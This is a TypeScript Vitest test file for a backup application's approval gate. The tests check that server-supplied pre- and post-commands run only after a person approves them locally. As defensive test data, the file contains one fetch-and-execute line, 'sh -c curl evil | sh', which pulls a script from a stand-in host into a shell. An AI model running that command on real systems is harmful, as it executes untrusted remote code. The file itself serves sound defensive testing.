import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { backupSetIdSchema } from '../../shared/model/ids.ts'
import { approvedCommands } from './approved-commands.ts'

let folder = ''
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'holdfast-test-'))
})
afterEach(() => rm(folder, { recursive: true }))

const id = backupSetIdSchema.parse(`set_${'a'.repeat(22)}`)
const other = backupSetIdSchema.parse(`set_${'b'.repeat(22)}`)
const dump = { argv: ['dump', 'all'], timeoutSeconds: 60, onFailure: 'stop' as const }
const evil = { ...dump, argv: ['sh', '-c', 'curl evil | sh'] }

describe('a command that a definition brings from the server', () => {
  it('may not run before a person saved it on this computer', async () => {
    const commands = approvedCommands(folder)
    expect(await commands.areApproved(id, { preCommand: dump, postCommand: null })).toBe(false)
  })

  it('may run after that, also in the next process', async () => {
    await approvedCommands(folder).approve(id, { preCommand: dump, postCommand: null })
    const next = approvedCommands(folder)
    expect(await next.areApproved(id, { preCommand: dump, postCommand: null })).toBe(true)
  })

  it.each([
    ['with other arguments', { preCommand: { ...dump, argv: ['dump', 'more'] }, postCommand: null }],
    ['that is another program', { preCommand: evil, postCommand: null }],
    ['that moved to the end', { preCommand: null, postCommand: dump }],
    ['with another one after it', { preCommand: dump, postCommand: evil }],
    ['with another time limit', { preCommand: { ...dump, timeoutSeconds: 61 }, postCommand: null }],
  ])('%s is another command', async (_what, definition) => {
    const commands = approvedCommands(folder)
    await commands.approve(id, { preCommand: dump, postCommand: null })
    expect(await commands.areApproved(id, definition)).toBe(false)
  })

  it('of one set is not approved for another', async () => {
    const commands = approvedCommands(folder)
    await commands.approve(id, { preCommand: dump, postCommand: null })
    expect(await commands.areApproved(other, { preCommand: dump, postCommand: null })).toBe(false)
  })

  it('is not approved by saving a set in which a person changed something else', async () => {
    const commands = approvedCommands(folder)
    commands.heard(id, { preCommand: evil, postCommand: null })
    await commands.approve(id, { preCommand: evil, postCommand: null })
    expect(await commands.areApproved(id, { preCommand: evil, postCommand: null })).toBe(false)
  })

  it('is not approved either when the server names another one before it is saved', async () => {
    const commands = approvedCommands(folder)
    commands.heard(id, { preCommand: evil, postCommand: null })
    commands.heard(id, { preCommand: null, postCommand: null })
    await commands.approve(id, { preCommand: evil, postCommand: null })
    expect(await commands.areApproved(id, { preCommand: evil, postCommand: null })).toBe(false)
  })

  it('stays approved however often the server repeats it', async () => {
    const commands = approvedCommands(folder)
    await commands.approve(id, { preCommand: dump, postCommand: null })
    commands.heard(id, { preCommand: dump, postCommand: null })
    await commands.approve(id, { preCommand: dump, postCommand: null })
    expect(await commands.areApproved(id, { preCommand: dump, postCommand: null })).toBe(true)
  })

  it('is approved when a person removes it and enters it again', async () => {
    const commands = approvedCommands(folder)
    commands.heard(id, { preCommand: dump, postCommand: null })
    await commands.approve(id, { preCommand: null, postCommand: null })
    commands.heard(id, { preCommand: null, postCommand: null })
    await commands.approve(id, { preCommand: dump, postCommand: null })
    expect(await commands.areApproved(id, { preCommand: dump, postCommand: null })).toBe(true)
  })

  it('is not approved by a damaged file, which is named', async () => {
    await writeFile(join(folder, 'approved-commands.json'), '{')
    const commands = approvedCommands(folder)
    await expect(commands.areApproved(id, { preCommand: dump, postCommand: null })).rejects.toMatchObject({
      code: 'PROFILE_DAMAGED',
    })
  })
})

it('needs no approval where there is no command', async () => {
  expect(await approvedCommands(folder).areApproved(id, { preCommand: null, postCommand: null })).toBe(true)
})
